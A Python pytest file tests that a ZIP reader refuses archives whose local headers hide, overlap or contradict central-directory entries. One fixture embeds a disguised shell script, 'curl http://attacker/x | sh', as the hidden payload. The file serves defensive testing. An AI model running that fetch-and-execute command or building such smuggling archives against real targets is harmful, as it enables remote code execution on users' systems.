"""Every byte of a ZIP belongs to one record (APPNOTE 4.3.6): ``_ziplayout``.

A reader that starts from the central directory and one that walks the local headers
from the start (Java's ``ZipInputStream``) must see the same files. Archives written
by real tools are read, and their member list and digests equal what Java's streaming
reader recorded (``tests/assets/zip-writers/streamed.tsv``); archives that hide an
entry from one of the two views, or whose local headers disagree with the central
directory, are refused when opened, from a path and from a stream. ``zipfile`` opens
every hostile archive below (it does not check the layout), so the refusals are
vendorproof's own.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from vendorproof.errors import InvalidInputError
from vendorproof.formats.ziparchive import SafeZip

ASSETS = Path(__file__).parents[2] / "assets"
WRITERS = ASSETS / "zip-writers"
DD = 0x0008  # general-purpose flag bit 3: data descriptor


# -- archives written by real tools -------------------------------------------------


def _view(source: Path | io.BytesIO, file: str) -> list[tuple[str, str]]:
    """(name, SHA-256) of every file, in the order of the local headers."""
    with zipfile.ZipFile(source) as zf:
        order = sorted(zf.infolist(), key=lambda i: i.header_offset)
        expected = [(i.filename, hashlib.sha256(zf.read(i)).hexdigest()) for i in order]
    with SafeZip(source, file=file) as z:
        names = [n for n, _ in expected if z.has(n)]
        digests = z.hash_members(names, ["sha256"])
        streamed = [z.hash_member(n, ["sha256"]) for n in names]
    got = [(n, d.digests["sha256"]) for n, d in zip(names, digests, strict=True)]
    assert [d.digests["sha256"] for d in streamed] == [h for _, h in got]
    assert got == [(n, h) for n, h in expected if not n.endswith("/")]
    return got


def _streamed() -> dict[str, list[tuple[str, str]]]:
    out: dict[str, list[tuple[str, str]]] = {}
    for line in (WRITERS / "streamed.tsv").read_text().splitlines():
        archive, name, digest = line.split("\t")
        out.setdefault(archive, []).append((name, digest))
    return out


@pytest.mark.parametrize(
    "archive",
    sorted(
        p.name
        for p in WRITERS.iterdir()
        if p.suffix in {".zip", ".jar"} and p.name != "infozip-stream-zip64.zip"
    ),
)
def test_archives_of_real_writers_read_as_a_streaming_reader_reads_them(
    archive: str,
) -> None:
    got = _view(WRITERS / archive, archive)
    java = _streamed()[archive]
    if java[-1][0] == "!":  # Java gave up at a stored member with a data descriptor
        java = java[:-1]
        assert got[: len(java)] == java
        assert len(got) == len(java) + 1
    else:
        assert got == java
    _view(io.BytesIO((WRITERS / archive).read_bytes()), archive)


def test_an_archive_no_reader_can_place_is_refused() -> None:
    # Info-ZIP 3.0 piping with -fz: the end record says "see the Zip64 record" and
    # there is none; unzip -t and Java refuse it too.
    with pytest.raises(InvalidInputError, match="central directory declared at"):
        SafeZip(WRITERS / "infozip-stream-zip64.zip", file="x.zip")


@pytest.mark.parametrize(
    "package", sorted(p.name for p in (ASSETS / "onap-sol004").glob("*.*[pr]"))
)
def test_onap_packages_and_their_inner_csar_are_read(package: str) -> None:
    path = ASSETS / "onap-sol004" / package
    _view(path, package)
    with SafeZip(path, file=package) as z:
        for member in z.members:
            if member.name.endswith(".csar"):
                stream = z.open_seekable(member.name)
                with SafeZip(stream, file=member.name, size=member.size) as inner:
                    assert inner.members


class _Pipe(io.RawIOBase):
    """A write-only stream that cannot tell or seek (``zipfile`` then writes data
    descriptors, flag bit 3)."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        self.data += b
        return len(b)

    def tell(self) -> int:
        raise OSError("not seekable")


CONTENT = [
    ("Definitions/", b""),
    ("Definitions/main.yaml", b"x: 1\n" * 300),
    ("Files/image.bin", bytes(range(256)) * 40),
    ("empty.txt", b""),
]


@pytest.mark.parametrize(
    "method",
    [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA],
)
@pytest.mark.parametrize("streamed", [False, True], ids=["seekable", "pipe"])
@pytest.mark.parametrize("zip64", [False, True], ids=["zip32", "zip64"])
def test_archives_of_python_zipfile_are_read(
    method: int, *, streamed: bool, zip64: bool
) -> None:
    out: io.BytesIO | _Pipe = _Pipe() if streamed else io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        zf.comment = b"comment"
        for name, data in CONTENT:
            if name.endswith("/"):
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=zip64) as w:
                w.write(data)
    raw = bytes(out.data) if isinstance(out, _Pipe) else out.getvalue()
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        flags = {i.filename: i.flag_bits & DD for i in zf.infolist()}
    assert flags["empty.txt"] == (DD if streamed else 0)
    got = _view(io.BytesIO(raw), "py.zip")
    assert [n for n, _ in got] == [n for n, _ in CONTENT if not n.endswith("/")]


# -- archives built byte by byte ----------------------------------------------------


@dataclass(frozen=True)
class Entry:
    """One member as written; ``local`` overrides fields of the local header only."""

    name: bytes
    content: bytes = b"data"
    method: int = zipfile.ZIP_STORED
    flags: int = 0
    descriptor: str | None = None  # "signed", "bare", "signed64", "bare64"
    local: dict[str, int | bytes] = field(default_factory=dict)
    described: dict[str, int] = field(default_factory=dict)  # descriptor overrides
    extra: bytes = b""  # local extra field

    def data(self) -> bytes:
        if self.method == zipfile.ZIP_DEFLATED:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            return c.compress(self.content) + c.flush()
        return self.content

    def values(self) -> dict[str, int]:
        return {
            "crc": zlib.crc32(self.content),
            "csize": len(self.data()),
            "usize": len(self.content),
        }


def _local(e: Entry) -> bytes:
    v = e.values()
    if e.flags & DD:
        v = {"crc": 0, "csize": 0, "usize": 0}
    f: dict[str, int | bytes] = {
        "sig": b"PK\x03\x04",
        "flags": e.flags,
        "method": e.method,
        "name": e.name,
        **v,
        **e.local,
    }
    name = f["name"]
    assert isinstance(name, bytes)
    head = struct.pack(
        "<4sHHHHHIIIHH",
        f["sig"],
        20,
        f["flags"],
        f["method"],
        0,
        0x21,
        f["crc"],
        f["csize"],
        f["usize"],
        len(name),
        len(e.extra),
    )
    tail = b""
    if e.descriptor:
        d = {**e.values(), **e.described}
        wide = e.descriptor.endswith("64")
        body = struct.pack("<IQQ" if wide else "<III", d["crc"], d["csize"], d["usize"])
        tail = (b"PK\x07\x08" if e.descriptor.startswith("signed") else b"") + body
    return head + name + e.extra + e.data() + tail


def _central(e: Entry, offset: int) -> bytes:
    v = e.values()
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            v["crc"],
            v["csize"],
            v["usize"],
            len(e.name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + e.name
    )


def _assemble(
    entries: list[Entry],
    *,
    before: bytes = b"",
    shift: bool = True,
    gap_after: dict[int, bytes] | None = None,
    offsets: list[int] | None = None,
    before_directory: bytes = b"",
    count: int | None = None,
    comment: bytes = b"",
    after: bytes = b"",
) -> bytes:
    body = bytearray(before)
    at = []
    for i, e in enumerate(entries):
        at.append(len(body) if shift else len(body) - len(before))
        body += _local(e)
        body += (gap_after or {}).get(i, b"")
    body += before_directory
    directory = b"".join(
        _central(e, o) for e, o in zip(entries, offsets or at, strict=True)
    )
    start = len(body) if shift else len(body) - len(before)
    n = len(entries) if count is None else count
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(directory), start, len(comment)
    )
    return bytes(body) + directory + end + comment + after


def _opens(raw: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:  # zipfile itself reads it
        zf.testzip()
    with SafeZip(io.BytesIO(raw), file="x.zip") as z:
        return [m.name for m in z.members]


def _refused(raw: bytes, match: str, tmp_path: Path) -> InvalidInputError:
    """Refused from a stream and from a file, the same way; zipfile reads it."""
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        zf.infolist()
    path = tmp_path / "x.zip"
    path.write_bytes(raw)
    with pytest.raises(InvalidInputError, match=match) as e:
        SafeZip(io.BytesIO(raw), file="x.zip")
    with pytest.raises(InvalidInputError, match=match) as e2:
        SafeZip(path, file="x.zip")
    assert str(e.value) == str(e2.value)
    assert e.value.file == "x.zip"
    return e.value


A = Entry(b"Files/a.sh", b"#!/bin/sh\necho vendor\n" * 20)
B = Entry(b"Files/b.txt", b"text " * 50, zipfile.ZIP_DEFLATED)
HIDDEN = _local(Entry(b"Files/a.sh", b"#!/bin/sh\ncurl http://attacker/x | sh\n"))


@pytest.mark.parametrize(
    "entries",
    [
        [A, B],
        [],
        [
            replace(A, flags=DD, descriptor="signed"),
            replace(B, flags=DD, descriptor="bare"),
        ],
        [
            replace(
                B,
                flags=DD,
                descriptor="signed64",
                extra=struct.pack("<HHQQ", 1, 16, 0, 0),
            )
        ],
        [
            replace(
                B,
                flags=DD,
                descriptor="bare64",
                extra=struct.pack("<HHQQ", 1, 16, 0, 0),
            )
        ],
        # Info-ZIP on a pipe puts the sizes it knows in the local header.
        [replace(B, flags=DD, descriptor="signed", local={"usize": len(B.content)})],
        # The bare descriptor of an empty file: twelve zero bytes.
        [replace(A, flags=DD, descriptor="bare", content=b"")],
        # Zip64 sizes in the local extra field (4.5.3).
        [
            replace(
                A,
                local={"csize": 0xFFFFFFFF, "usize": 0xFFFFFFFF},
                extra=struct.pack("<HHQQ", 1, 16, len(A.content), len(A.content)),
            )
        ],
        # Alignment padding that is no whole extra field.
        [replace(A, extra=struct.pack("<HH", 0xCAFE, 2) + b"\0\0" + b"\0\0")],
    ],
    ids=[
        "plain",
        "empty",
        "descriptors",
        "zip64-signed",
        "zip64-bare",
        "known-size",
        "empty-bare",
        "zip64-extra",
        "padding",
    ],
)
def test_exactly_covered_archives_are_read(entries: list[Entry]) -> None:
    assert _opens(_assemble(entries)) == [e.name.decode() for e in entries]


def test_hidden_entry_before_the_directory_is_refused(tmp_path: Path) -> None:
    # What a streaming reader extracts last (and keeps, when it overwrites).
    raw = _assemble([A, B], before_directory=HIDDEN)
    _refused(raw, "bytes in between are no member.*hidden entry", tmp_path)


def test_hidden_entry_before_the_first_is_refused(tmp_path: Path) -> None:
    # Offsets shifted: a well-formed archive for zipfile, the hidden file first.
    err = _refused(
        _assemble([A, B], before=HIDDEN), "before the first member", tmp_path
    )
    assert err.path == "'Files/a.sh'"
    # Offsets not shifted (a self-extracting stub): zipfile adjusts, vendorproof not.
    _refused(
        _assemble([A, B], before=b"MZ stub" * 10, shift=False),
        "data before the archive",
        tmp_path,
    )


def test_hidden_entry_between_members_is_refused(tmp_path: Path) -> None:
    err = _refused(
        _assemble([A, B], gap_after={0: HIDDEN}), "after member 'Files/a.sh'", tmp_path
    )
    assert err.path == "'Files/b.txt'"


def test_overlapping_members_are_refused(tmp_path: Path) -> None:
    # b's local header and data lie inside a's data: every byte read twice.
    inner = Entry(b"b", b"inner")
    outer = Entry(b"a", _local(inner))
    body = _local(outer)
    directory = _central(outer, 0) + _central(inner, 31)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(directory), len(body), 0
    )
    err = _refused(body + directory + end, "member overlaps member 'a'", tmp_path)
    assert err.path == "'b'"
    # Two entries of one local header (the second name differs only in the directory).
    twice = _assemble([A, replace(A, name=b"Files/c.sh")], offsets=[0, 0])
    _refused(twice, "Files/c.sh", tmp_path)


@pytest.mark.parametrize(
    ("local", "match"),
    [
        ({"sig": b"PK\x07\x08"}, "no local file header"),
        ({"name": b"Files/x.sh"}, "differ in the name"),
        ({"flags": 0x0001}, r"differ in the flags \(0x0001"),
        ({"flags": 0x0800}, r"differ in the flags \(0x0800"),
        ({"flags": DD}, r"differ in the flags \(0x0008"),
        ({"method": zipfile.ZIP_DEFLATED}, "compression method"),
        ({"crc": 1}, "CRC-32 or sizes"),
        ({"csize": 1}, "CRC-32 or sizes"),
        ({"usize": 1}, "CRC-32 or sizes"),
    ],
)
def test_local_header_must_say_what_the_directory_says(
    tmp_path: Path, local: dict[str, int | bytes], match: str
) -> None:
    name = local.get("name")
    entry = replace(A, local=local)
    raw = _assemble([entry])
    if isinstance(name, bytes):  # same length: the layout stays exact
        assert len(name) == len(A.name)
    err = _refused(raw, match, tmp_path)
    assert err.path == "'Files/a.sh'"


@pytest.mark.parametrize(
    ("entry", "match"),
    [
        (
            replace(B, flags=DD, descriptor="signed", described={"crc": 7}),
            "data descriptor",
        ),
        (
            replace(B, flags=DD, descriptor="signed", described={"csize": 7}),
            "data descriptor",
        ),
        (
            replace(B, flags=DD, descriptor="bare", described={"usize": 7}),
            "data descriptor",
        ),
        (replace(B, flags=DD, descriptor=None), "data descriptor"),
        # 8-byte sizes without a Zip64 field in the local header (4.3.9.2).
        (replace(B, flags=DD, descriptor="signed64"), "data descriptor|past the start"),
        # The header's deferred values must be zero or the real ones.
        (
            replace(B, flags=DD, descriptor="signed", local={"crc": 5}),
            "CRC-32 or sizes",
        ),
    ],
    ids=["crc", "csize", "usize", "missing", "wide", "local-values"],
)
def test_data_descriptor_must_say_what_the_directory_says(
    tmp_path: Path, entry: Entry, match: str
) -> None:
    _refused(_assemble([entry, A]), match, tmp_path)


def test_zip64_size_missing_from_the_local_extra_field(tmp_path: Path) -> None:
    entry = replace(A, local={"csize": 0xFFFFFFFF, "usize": 0xFFFFFFFF})
    _refused(_assemble([entry]), "CRC-32 or sizes", tmp_path)


def test_end_records_must_end_the_file(tmp_path: Path) -> None:
    _refused(
        _assemble([A], after=b"PK\x03\x04 trailing"), "bytes after the end", tmp_path
    )
    _refused(_assemble([A], comment=b"c", after=b"x"), "bytes after the end", tmp_path)
    _refused(_assemble([A, B], count=1), "the end record says 1 entries", tmp_path)
    _refused(_assemble([], before_directory=HIDDEN), "has no member", tmp_path)
    assert _opens(_assemble([A], comment=b"a comment")) == ["Files/a.sh"]


def test_directory_entry_longer_than_the_directory_is_refused(tmp_path: Path) -> None:
    raw = bytearray(_assemble([A, B]))
    directory = raw.rfind(b"PK\x01\x02")
    struct.pack_into("<H", raw, directory + 32, 10)  # comment length, 0 bytes there
    _refused(bytes(raw), "holds 2 entries ending at byte", tmp_path)


def test_zip64_end_records(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a", b"1")
        zf.writestr("b", b"2")
    raw = bytearray(buf.getvalue())
    end = raw.rfind(b"PK\x05\x06")
    _, _, _, n, _, size, start, _ = struct.unpack_from("<4sHHHHIIH", raw, end)
    record = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, size, start
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    zip64 = bytes(raw[:end]) + record + locator + bytes(raw[end:])
    assert _opens(zip64) == ["a", "b"]
    moved = zip64.replace(locator, struct.pack("<4sIQI", b"PK\x06\x07", 0, end - 1, 1))
    _refused(moved, "Zip64 end of central directory record not where", tmp_path)
    extensible = record.replace(struct.pack("<Q", 44), struct.pack("<Q", 52), 1)
    _refused(
        zip64.replace(record, extensible), "Zip64 end of central directory", tmp_path
    )
    two_disks = bytes(raw[: end + 4]) + struct.pack("<H", 1) + bytes(raw[end + 6 :])
    with pytest.raises(InvalidInputError, match="several disks"):
        SafeZip(io.BytesIO(two_disks), file="x.zip")


def test_the_refusal_is_kept_with_the_cached_index(tmp_path: Path) -> None:
    # A refused archive is never cached; a good one is, with its data offsets.
    path = tmp_path / "p.zip"
    path.write_bytes(_assemble([A, B], before_directory=HIDDEN))
    for _ in range(2):
        with pytest.raises(InvalidInputError, match="hidden entry"):
            SafeZip(path, file="p.zip")
    path.write_bytes(_assemble([A, B]))
    for _ in range(2):
        with SafeZip(path, file="p.zip") as z:
            (digest,) = z.hash_members(["Files/a.sh"], ["sha256"])
        assert digest.digests["sha256"] == hashlib.sha256(A.content).hexdigest()


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_a_nested_archive_is_checked_through_its_stream(
    tmp_path: Path, method: int
) -> None:
    # Security option 2: the CSAR is a member of the outer ZIP, read as a stream.
    good, bad = _assemble([A, B]), _assemble([A, B], before_directory=HIDDEN)
    outer = tmp_path / "outer.zip"
    with zipfile.ZipFile(outer, "w", method) as zf:
        zf.writestr("good.csar", good)
        zf.writestr("bad.csar", bad)
    with SafeZip(outer, file="outer.zip") as z:
        member = z.member("good.csar")
        with SafeZip(
            z.open_seekable("good.csar"), file="good.csar", size=member.size
        ) as inner:
            assert [m.name for m in inner.members] == ["Files/a.sh", "Files/b.txt"]
            assert inner.read("Files/b.txt") == B.content
        with pytest.raises(InvalidInputError, match="hidden entry") as e:
            SafeZip(
                z.open_seekable("bad.csar"),
                file="outer.zip: bad.csar",
                size=z.member("bad.csar").size,
            )
        assert e.value.file == "outer.zip: bad.csar"
